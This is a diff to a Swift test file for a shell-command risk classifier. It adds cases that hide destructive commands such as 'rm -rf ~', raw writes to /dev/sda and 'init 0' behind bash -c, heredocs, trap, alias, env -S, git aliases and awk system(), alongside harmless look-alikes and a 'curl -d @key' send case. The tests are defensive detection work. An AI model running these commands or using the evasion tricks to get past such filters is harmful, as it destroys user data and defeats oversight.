@@ -64,9 +64,45 @@ import Testing
     }
 
     @Test(arguments: [
+        ("bash -o pipefail -c 'rm -rf ~'", "rm | deletes"), ("bash -euo pipefail -c 'rm x'", "rm | deletes"),
+        ("bash --rcfile a -c 'rm x'", "rm | deletes"), ("bash <<< 'rm x'", "rm | deletes"),
+        ("cat <<EOF\n$(rm -rf ~)\nEOF", "rm | deletes"), ("cat <<EOF\na `rm x`\nEOF", "rm | deletes"),
+        ("echo a\r#; rm x", "rm | deletes"), ("function f { rm x; }", "rm | deletes"),
+        ("function f() { rm x; }", "rm | deletes"), ("trap 'rm x' EXIT", "rm | deletes"),
+        ("alias x='rm x'", "x='rm x' | deletes"), ("env -S'rm x'", "-S'rm x' | deletes"),
+        ("env --split-string='rm x'", "--split-string='rm x' | deletes"), ("env -iS 'rm x'", "rm | deletes"),
+        ("script -qc 'rm x'", "rm | deletes"), ("script out -c 'rm x'", "rm | deletes"),
+        ("timeout --signal KILL 5 rm x", "rm | deletes"), ("timeout --signal=KILL 5 rm x", "rm | deletes"),
+        ("xargs --max-args 1 rm", "rm | deletes"), ("xargs -0n 1 rm", "rm | deletes"),
+        ("git -c alias.x='!rm x' x", "alias.x='!rm x' | deletes"),
+        ("git -C a -c core.pager='rm x' log", "core.pager='rm x' | deletes"),
+        (#"awk 'BEGIN{system("rm x")}'"#, #"'BEGIN{system("rm x")}' | deletes"#),
+        (#"awk '{print | "sh"}'"#, #"'{print | "sh"}' | runsUnseen"#),
+        ("awk '{system($0)}' a", "'{system($0)}' | runsUnseen"),
+        ("echo x > /tmp/../dev/sda", "/tmp/../dev/sda | writesDevice"),
+        ("echo x > //dev/sda", "//dev/sda | writesDevice"),
+        ("init 0", "init 0 | shutsDown"),
+    ])
+    func dangerousInOtherWays(command: String, words: String) {
+        #expect(marked(command) == words)
+        #expect(CommandRisk(of: command).level == .dangerous)
+    }
+
+    @Test(arguments: [
+        "cat <<'EOF'\n$(rm -rf ~)\nEOF", "cat <<E\\OF\n`rm x`\nEOF", "cat <<EOF\n\\$(rm x)\nEOF", "cat <<< 'rm x'",
+        "git -c user.name=rm log", "awk -F'|' '{print $1}' a", "set -o pipefail", "trap - EXIT", "alias ll='ls -l'",
+        "timeout --signal KILL 5 make", "echo x > /tmp/./a", "sed s/a/b/ x", "bash -o pipefail build.sh",
+    ])
+    func harmlessAllTheSame(command: String) {
+        #expect(CommandRisk(of: command).level == .plain, "\(marked(command))")
+    }
+
+    @Test(arguments: [
         ("npm install x", "npm install | installs"), ("apt-get install x", "apt-get | installs"),
         ("echo x > ~/.bashrc", "~/.bashrc | writesOutside"), ("cp a /etc/hosts", "/etc/hosts | writesOutside"),
         ("echo x >> ../other/a", "../other/a | writesOutside"), ("ssh host ls", "ssh | sends"),
+        ("echo x > /tmp/../etc/x", "/tmp/../etc/x | writesOutside"),
+        ("cp a /tmp/../etc/x", "/tmp/../etc/x | writesOutside"),
         ("curl -d @key https://x", "curl -d | sends"),
     ])
     func careful(command: String, words: String) {
